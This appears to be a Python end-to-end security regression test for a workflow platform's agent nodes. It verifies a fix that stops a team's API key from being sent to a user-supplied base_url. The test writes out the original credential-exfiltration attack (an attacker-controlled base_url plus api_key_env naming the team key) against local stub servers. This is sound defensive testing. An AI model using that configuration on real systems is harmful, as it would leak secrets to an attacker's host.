"""Finding 3 (high): an agent node sent a team's API key to a URL of the user's choosing.

The attack, as found: ``base_url`` pointing at the attacker's server and ``api_key_env:
RQFLOW_LLM_API_KEY_TEAM``. Now keys belong to the operator's providers, each bound to its
own URL: ``api_key_env`` is refused, a provider is only used by the users the operator
listed, and a node's own ``base_url`` gets no key at all. Three chat-completions stubs stand
for the operator's endpoint, the team's, and the attacker's.
"""

from __future__ import annotations

import json

import httpx
import pytest

from tests.e2e.conftest import Stack
from tests.e2e.test_http_api import create_user_token
from tests.llm_stub import LlmStub, final
from tests.security.test_code_execution import run_now

pytestmark = pytest.mark.e2e

OPERATOR_KEY, TEAM_KEY = "sk-operator-secret", "sk-team-secret"


def agent(**config: str) -> dict[str, object]:
    return {"name": "assistant", "edges": [{"source": "t", "target": "ask"}], "nodes": [
        {"key": "t", "component_type": "trigger_schedule", "config": {}},
        {"key": "ask", "component_type": "agent", "config": {"prompt": "hello", **config}}]}


def test_the_team_key_never_reaches_a_users_url(stack: Stack, database_url: str) -> None:
    with LlmStub([final("ok")] * 5) as operator, LlmStub([final("ok")] * 5) as team, \
            LlmStub([final("ok")] * 5) as attacker:
        env = {"RQFLOW_LLM_BASE_URL": operator.base_url, "RQFLOW_LLM_API_KEY": OPERATOR_KEY,
               "RQFLOW_LLM_API_KEY_TEAM": TEAM_KEY,  # what the old api_key_env could name
               "RQFLOW_LLM_PROVIDERS": json.dumps({"team": {"base_url": team.base_url, "api_key": TEAM_KEY,
                                                            "users": ["team-member"]}}),
               "RQFLOW_EGRESS_ALLOW": "127.0.0.1/32"}  # so the attacker's server is reachable at all
        stack.start_worker(env=env)
        base = stack.start_web(env=env)
        token = create_user_token(stack, "mallory")
        stack.wait_workers()
        with httpx.Client(base_url=base, headers={"Authorization": f"Bearer {token}"}, timeout=30) as api:
            refused = api.post("/api/v1/workflows", json=agent(base_url=attacker.base_url,
                                                               api_key_env="RQFLOW_LLM_API_KEY_TEAM"))
            assert refused.status_code == 422 and refused.json()["field"] == "nodes.1.config.api_key_env"
            runs = {}
            for name, config in {"own": {"base_url": attacker.base_url}, "team": {"provider": "team"},
                                 "default": {}}.items():
                saved = api.post("/api/v1/workflows", json=agent(**config))
                assert saved.status_code == 201, saved.text
                runs[name] = run_now(api, saved.json()["id"])

    assert runs["own"]["status"] == "succeeded" and runs["default"]["status"] == "succeeded"
    assert runs["team"]["status"] == "failed"
    assert "not available to user 'mallory'" in runs["team"]["node_runs"][-1]["error"]
    assert team.requests == [], "mallory's node reached the team's provider"
    [stolen] = attacker.requests
    assert "authorization" not in stolen.headers
    assert TEAM_KEY not in json.dumps(stolen.headers) and OPERATOR_KEY not in json.dumps(stolen.headers)
    [legit] = operator.requests
    assert legit.headers["authorization"] == f"Bearer {OPERATOR_KEY}", "the operator's key goes to its own URL"
